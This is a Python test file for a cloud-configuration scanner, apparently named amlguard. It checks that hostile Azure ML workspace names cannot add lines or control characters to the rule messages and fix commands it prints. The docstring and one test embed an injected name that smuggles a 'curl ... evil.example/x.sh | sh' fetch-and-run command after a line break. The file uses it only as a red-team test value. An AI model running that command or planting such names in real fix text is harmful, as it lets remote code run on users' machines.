"""Names, resource groups and other data in a rule's message and fix text stay on one line.

Red-team finding: a workspace named ``"ws\\ncurl https://evil.example/x.sh | sh #"`` put a
pasteable ``curl`` line into the fix shown in the console, Markdown and JSON, because the fix
summary and the manual command are one text split at the first line break.
"""

from __future__ import annotations

import copy
import json
from typing import Any

from hypothesis import given, settings
from hypothesis import strategies as st

from amlguard.scanner.model import Status
from amlguard.scanner.sources.snapshot import read_snapshot
from amlguard.textsafe import UNSAFE
from tests.conftest import EXAMPLES
from tests.scanner.harness import scan

_ROWS, _ = read_snapshot(EXAMPLES / "drifted.json")
WORKSPACE = "microsoft.machinelearningservices/workspaces"
_NASTY = st.text(
    alphabet=st.sampled_from(list("ab-_ |#;`$'\"\\\n\r\t\x1b\x07\x00\u202e\u2028\x85")),
    min_size=1,
    max_size=24,
)


def _renamed(name: str) -> list[dict[str, Any]]:
    rows = copy.deepcopy(_ROWS)
    for row in rows:
        if str(row.get("type")).lower() == WORKSPACE:
            row["name"] = name
    return rows


@settings(derandomize=True, max_examples=40, deadline=None)
@given(name=_NASTY)
def test_a_hostile_name_never_adds_a_line_or_a_control_character(name: str) -> None:
    findings = scan(_renamed(name), rule_ids=["AMLG-101", "AMLG-104", "AMLG-105"])
    failing = [f for f in findings if f.status is Status.FAIL]
    assert failing
    for f in failing:
        assert not UNSAFE.search(f.message), f.message
        summary, _, commands = f.remediation.partition("\n")
        assert not UNSAFE.search(summary), summary
        # Every further line is a command or a '# placeholder' note amlguard wrote.
        for line in commands.splitlines():
            assert line.startswith(("az ", "# ")), line
            assert not UNSAFE.search(line), line


def test_the_redteam_example_is_one_visible_word() -> None:
    evil = "ws\ncurl -s https://evil.example/x.sh | sh #"
    (f,) = [x for x in scan(_renamed(evil), rule_ids=["AMLG-101"]) if x.status is Status.FAIL]
    summary, command = f.remediation.split("\n")
    assert "ws\\ncurl" in summary
    assert command.startswith("az ml workspace update --name 'ws\\ncurl")
    assert json.dumps(f.remediation).count("\\n") == 3  # the separator plus two escaped breaks
